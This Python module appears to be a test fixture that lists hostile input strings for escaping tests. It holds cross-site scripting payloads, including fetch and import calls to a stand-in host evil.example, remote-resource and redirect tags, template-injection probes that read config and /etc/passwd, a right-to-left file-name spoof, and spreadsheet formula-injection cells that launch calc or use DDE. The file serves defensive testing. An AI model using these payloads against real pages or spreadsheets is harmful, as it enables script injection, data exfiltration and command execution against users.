"""Strings that a careless page, picture or table would run, open or send; no test may see one of them live."""

from __future__ import annotations

CALLS = ("alert(1)", "fetch('//evil.example/x')", "window.hacked=1", "document.title='hacked'", "import('//x')")
TAGS = (
    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<a href=\"javascript:{}\">x</a>", "<details open ontoggle={}>", "<input autofocus onfocus={}>",
    "</style><script>{}</script>",
    "\"><script>{}</script>", "'><img src=x onerror={}>", "\" onmouseover={} x=\"", "</title><script>{}</script>",
    "--><script>{}</script>", "<math><mtext><script>{}</script>", "{{{{ {} }}}}", "{{% {} %}}",
    "<video><source onerror={}>",
    "<scr\0ipt>{}</script>", "<ſcript>{}</ſcript>",
)  # fmt: skip
BARE = (
    "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>", "<form action=//evil.example><input type=submit>", "<object data=//evil.example>",
    "<embed src=//evil.example>", "<style>@import '//evil.example/x.css'</style>", "<img src=//evil.example/x.png>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "{{ config }}", "{{ ''.__class__.__mro__ }}",
    "{% include '/etc/passwd' %}", "\u202egnp.exe", "a\u200bb", "\x1b[31mred", "$\\int x$",
    "<!--", "]]>", "<![CDATA[x]]>",
)  # fmt: skip
PAYLOADS = (*(tag.format(call) for tag in TAGS for call in CALLS), *BARE)

_SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "−")  # noqa: RUF001
_HEADS = (*_SIGNS, "\t=", "\r=", "\n=", " =", "\xa0@", "\u3000+", "\x00=", "\ufeff-", "\u200b=", '"=', "\u202e@")
_BODIES = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.y","z")', "SUM(A1:A9)*cmd|'/c'!A", "IMPORTXML(CONCAT(1))", "\n=2",
    '"=1"', ",=1", ";=1;", ';"=1";', "\t-1\tx", "WEBSERVICE(1)", "DDE(1)", "2+5", "A1", "x", "", "=1", "\udc80",
)  # fmt: skip
# Cells that a spreadsheet would run as a formula.
FORMULAS = tuple(head + body for head in _HEADS for body in _BODIES)
